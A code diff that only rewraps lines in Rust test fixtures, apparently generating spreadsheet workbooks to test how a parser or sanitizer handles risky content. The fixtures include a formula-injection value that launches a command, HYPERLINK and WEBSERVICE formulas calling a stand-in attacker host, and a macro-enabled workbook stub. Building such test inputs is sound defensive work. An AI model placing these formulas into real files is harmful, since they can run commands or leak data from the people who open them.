@@ -33,7 +33,8 @@ fn packed(rows: &str, types: &str, more: &[(&str, &[u8])], blank: usize) -> Vec<
 }
 
 fn row(number: u32, cells: &[&str]) -> String {
-    let cells: String = ('A'..='Z').zip(cells).map(|(column, cell)| cell.replace("@", &format!("{column}{number}"))).collect();
+    let cells: String =
+        ('A'..='Z').zip(cells).map(|(column, cell)| cell.replace("@", &format!("{column}{number}"))).collect();
     format!("<row r=\"{number}\">{cells}</row>")
 }
 
@@ -71,7 +72,10 @@ pub(crate) fn formulas() -> Vec<u8> {
         "<c r=\"@\" t=\"str\"><f>HYPERLINK(\"http://evil.example/\",\"10.0.0.1\")</f><v>10.0.0.1</v></c>".to_owned(),
         text("=cmd|' /C calc'!A0"),
     ];
-    let two = ["<c r=\"@\"><f>WEBSERVICE(\"http://evil.example/\")</f></c>".to_owned(), "<c r=\"@\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>".to_owned()];
+    let two = [
+        "<c r=\"@\"><f>WEBSERVICE(\"http://evil.example/\")</f></c>".to_owned(),
+        "<c r=\"@\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>".to_owned(),
+    ];
     let rows = row(1, &head.each_ref().map(String::as_str))
         + &row(2, &one.each_ref().map(String::as_str))
         + &row(3, &two.each_ref().map(String::as_str));
@@ -80,7 +84,9 @@ pub(crate) fn formulas() -> Vec<u8> {
 
 /// A workbook with macros.
 pub(crate) fn macros() -> Vec<u8> {
-    let types = TYPES.replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main").replace("openxmlformats-officedocument.ms-excel", "ms-excel");
+    let types = TYPES
+        .replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
+        .replace("openxmlformats-officedocument.ms-excel", "ms-excel");
     packed(&ledger_rows(), &types, &[("xl/vbaProject.bin", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")], 0)
 }
 
